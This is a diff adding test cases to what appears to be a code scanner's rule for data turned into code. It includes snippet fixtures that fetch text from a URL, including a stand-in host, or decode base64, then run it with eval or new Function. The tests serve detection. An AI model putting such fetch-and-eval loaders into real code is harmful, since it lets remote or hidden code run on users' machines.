@@ -68,6 +68,10 @@ describe('EXE-002 decoded or fetched data becomes code', () => {
       `let s = ''; for (const b of bytes) s += String.fromCharCode(b); new Function(s);`,
     ],
     [
+      'what a machine of decoded bytes gives back',
+      `const m = WebAssembly.instantiate(Buffer.from('AGFzbQEAAAABBwFgAn9/AX8=', 'base64')); m.then(({ instance }) => { eval(instance.exports.name()); });`,
+    ],
+    [
       'data for a script of its own',
       `const t = await (await fetch(u)).text(); const a = [process.execPath, [path.join(__dirname, 'child.js'), t]]; require('child_process').spawn(...a, { detached: true });`,
     ],
@@ -77,5 +81,29 @@ describe('EXE-002 decoded or fetched data becomes code', () => {
     ],
   ])('passes %s', (_name, source) => {
     expect(hitsOf('EXE-002', js(source))).toEqual([]);
+  });
+
+  it.each([
+    [
+      'a loader of modules',
+      `exports.load = (url) => fetch(url).then((r) => r.text()).then((t) => (0, eval)(t));`,
+    ],
+    [
+      'a reader of data URLs',
+      `exports.run = (url) => new Function(Buffer.from(url.slice(5), 'base64').toString())();`,
+    ],
+  ])('is medium of %s, where a caller says when and what', (_name, source) => {
+    expect(hitsOf('EXE-002', js(source))).toEqual(['medium index.js']);
+  });
+
+  it.each([
+    [
+      'from a host of its own',
+      `exports.load = () => fetch('https://x.example.invalid/a').then((r) => r.text()).then((t) => (0, eval)(t));`,
+    ],
+    ['of a text of its own', `exports.run = () => eval(atob('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7'));`],
+    ['as soon as it is loaded', `function load(u) { fetch(u).then((r) => r.text()).then(eval); } load(f());`],
+  ])('is critical of a loader %s', (_name, source) => {
+    expect(hitsOf('EXE-002', js(source))).toEqual(['critical index.js']);
   });
 });
